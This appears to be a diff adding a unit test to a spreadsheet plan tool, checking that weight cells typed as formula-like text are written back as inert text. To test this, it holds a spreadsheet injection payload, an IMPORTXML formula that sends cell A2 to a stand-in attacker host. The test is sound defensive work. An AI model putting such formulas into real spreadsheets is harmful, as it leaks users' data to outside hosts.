@@ -259,6 +259,41 @@ describe('Targets formulas evaluated by HyperFormula', () => {
     expect(custom.rows[custom.weightRows[0] - 1]).toEqual(weights);
   });
 
+  it('write back a weight typed as text that looks like a formula as that text, never a formula that runs', () => {
+    const workbook = exampleWorkbook('en', { date: serial });
+    const krs = workbook['Key Results'];
+    krs[2][(krs[0] as string[]).indexOf('Phasing')] = 'custom';
+    const first = buildTargetsSheet(parsePlan(workbook).plan, { lang: 'en', date: serial })!;
+    const weights = first.rows[first.weightRows[0] - 1];
+    const month = (i: number) => first.firstMonthColumn - 1 + i;
+    const importXml = '=IMPORTXML("http://attacker.example/?q="&A2,"//a")';
+    weights[month(2)] = '=2*3'; // text: read from a cell, not a formula (the formulas typed are weightFormulas)
+    weights[month(3)] = importXml;
+    weights[month(4)] = 'abc';
+    weights[month(5)] = 2;
+    const plan = parsePlan({ ...workbook, Targets: first.rows }).plan;
+    // By default (the .xlsx writer, HyperFormula) a formula that yields the text; "abc" and 2 as they are.
+    const rebuilt = buildTargetsSheet(plan, { lang: 'en', date: serial })!;
+    const row = rebuilt.rows[rebuilt.weightRows[0] - 1];
+    expect(row.slice(month(2), month(6))).toEqual([textCell('=2*3'), textCell(importXml), 'abc', 2]);
+    const { values } = evaluateWorkbook({ ...workbook, Targets: rebuilt.rows });
+    expect(values('Targets')[rebuilt.weightRows[0] - 1].slice(month(2), month(6))).toEqual([
+      '=2*3',
+      importXml,
+      'abc',
+      2,
+    ]);
+    // The add-on's own way of keeping text (an apostrophe before it, sheetText), for every text weight.
+    const keptText = (text: string) => `'${text}`;
+    const inSheets = buildTargetsSheet(plan, { lang: 'en', date: serial, keptText })!;
+    expect(inSheets.rows[inSheets.weightRows[0] - 1].slice(month(2), month(6))).toEqual([
+      "'=2*3",
+      `'${importXml}`,
+      "'abc",
+      2,
+    ]);
+  });
+
   it('read only the plan cells TARGETS_FORMULA_INPUTS lists (the cells checked for text a formula cannot use)', () => {
     const workbook = exampleWorkbook('en', { date: serial });
     // A threshold key result too: its bar is met above or below as its Direction says.
